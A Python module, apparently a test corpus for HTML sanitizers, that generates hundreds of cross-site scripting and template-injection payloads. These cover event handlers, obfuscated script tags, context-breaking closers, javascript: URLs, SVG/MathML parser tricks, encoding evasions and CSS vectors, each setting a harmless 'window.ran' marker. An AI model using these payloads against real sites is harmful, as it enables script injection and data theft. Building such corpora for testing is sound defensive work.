"""What people have tried to make pages run, by class; each would set `window.ran` if a page ran it."""

from __future__ import annotations

RUN = "window.ran=1"

_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onpageshow", "onanimationstart"),
    *("onpointerenter", "onbegin", "onscroll", "onwheel", "onresize", "onbeforetoggle"),
    *("onmouseenter", "ontransitionend", "oncontentvisibilityautostatechange"),
)
_CARRIERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>",
    "<input autofocus {}>",
    "<video src=x {}><source {}>",
    "<iframe src=x {}></iframe>",
    "<marquee {}>x</marquee>",
    "<audio/src/{}>",
    "<object data=x {}></object>",
)
_SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\t>{}</script>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '<script x=">">{}</script>',
    '<noscript><p title="</noscript><script>{}</script>">',
    "<template><script>{}</script></template>",
    "<xmp><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<base href='data:text/javascript,{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button form=decision formaction='javascript:{}'>x</button>",
    "<a href='javascript:{}'>x</a>",
    "<isindex action='javascript:{}' type=image>",
)
_CLOSERS = (
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</p></article>",
    "</q>",
    "</bdi>",
    "</option></select>",
    "-->",
    "--!>",
    "]]>",
    "</svg>",
    "</noscript>",
    "</template>",
    '"></a>',
    "'></a>",
    "`></a>",
    "*/",
)
_ATTRIBUTES = (
    '" {} x="',
    "' {} x='",
    "` {} x=`",
    '">{}',
    '"/{}/x="',
    '"\t{}\tx="',
    '"\n{}\nx="',
    "&quot; {} x=&quot;",
    '\\" {} x=\\"',
)
_URLS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript\t:{}",
    "\x01javascript:{}",
    "javascript://example.org/%0a{}",
    "javascript:/*http://*/{}",
    "javascript:{}//http://example.org",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{}",
    "livescript:{}",
    "view-source:javascript:{}",
    "blob:javascript:{}",
    "filesystem:javascript:{}",
    "//example.org/{}",
    "/\\example.org/{}",
    "&#106;avascript:{}",
    "javascript&colon;{}",
    "jar:javascript:{}!/",
    "\u200bjavascript:{}",
)
_FOREIGN = (
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:text/javascript,{}'/></svg>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin='{}' attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{}'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{}</script>'/></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{}</script></svg>#x'/></svg>",
    "<svg><style><img src=x onerror={}></style>",
    "<svg><title><img src=x onerror={}></title>",
    "<svg><desc><script>{}</script></desc>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<math href='javascript:{}'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<math><mi xlink:href='data:x,<script>{}</script>'>",
    "<math><mglyph><style></math><img src=x onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "{{% print(7*7) %}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
    "{{{{request.app.state.settings}}}}",
    "{{# {} #}}",
    "[[${{{}}}]]",
)
_UNICODE = (
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02c2script\u02c3{}",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}",
    "\\x3cscript\\x3e{}",
    "\u202e<script>{}</script>",
    "\u2028<script>{}</script>",
    "\ufeff<script>{}</script>",
    "<\u200bscript>{}</script>",
    "<script\u00a0>{}</script>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<\u017fcript>{}</\u017fcript>",
    "<scr\u0130pt>{}</scr\u0130pt>",
    "\u0642<img src=x onerror={}>\u0627\u0644",
)
_STYLES = (
    "<style>@import 'data:text/css,*{{}}';</style><img src=x onerror={}>",
    "<div style='background:url(javascript:{})'>",
    "<div style='width:expression({})'>",
    "<style>*{{animation:x}}@keyframes x{{}}</style><b onanimationstart={}>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({})}}'>",
    "<p style=\"-moz-binding:url('data:text/xml,{}')\">",
    "<style><!--</style><script>{}//--></script>",
    "<b style='position:fixed;inset:0' onmouseover={}>x</b>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(
        dict.fromkeys(
            [
                *(p.format(RUN) for p in (*_SCRIPTS, *_FOREIGN, *_TEMPLATES, *_UNICODE, *_STYLES)),
                *(c.replace("{}", f"{e}={RUN}") for c in _CARRIERS for e in _EVENTS),
                *(f"{closer}<script>{RUN}</script>" for closer in _CLOSERS),
                *(f"{closer}<img src=x onerror={RUN}>" for closer in _CLOSERS),
                *(a.format(f"autofocus onfocus={RUN}") for a in _ATTRIBUTES),
                *(a.format(f"onpointerenter={RUN} style=position:fixed;inset:0") for a in _ATTRIBUTES),
                *addresses(),
            ]
        )
    )


def addresses() -> list[str]:
    """Those that stand where an address stands."""
    return [u.format(RUN) for u in _URLS]
